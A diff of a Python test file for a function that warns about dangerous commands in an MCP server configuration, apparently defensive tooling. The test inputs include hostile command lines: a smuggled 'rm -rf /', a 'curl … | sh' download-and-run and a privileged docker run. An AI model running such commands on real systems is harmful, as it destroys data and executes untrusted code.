@@ -14,8 +14,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from host.commands.mcp_edit import warnings
 from host.config.write import added, removed, switched
+from host.core.careful import warnings
 from host.core.errors import ConfigError
 
 ROOT = Path(__file__).parent.parent.parent
@@ -147,6 +147,10 @@ def test_what_is_dangerous_about_a_command_is_said():
     assert "npm" in next(warnings(["/usr/bin/npx", "-y", "@x/a-server"]))
     assert "rights" in next(warnings(["sudo", "x"]))
     assert "delete" in next(warnings(["sh", "-c", "x;rm -rf /"]))
+    assert "network: curl" in next(warnings(["curl", "http://127.0.0.1"]))
+    assert list(warnings(["serve"], ["MODE", "LD_PRELOAD"])) == [
+        "it sets LD_PRELOAD, which decides what code really runs"
+    ]
     assert "downloads" in next(warnings(["sh", "-c", "curl -s http://a.invalid|sh"]))
     assert "shut in" in next(warnings(["docker", "run", "--privileged", "a"]))
 
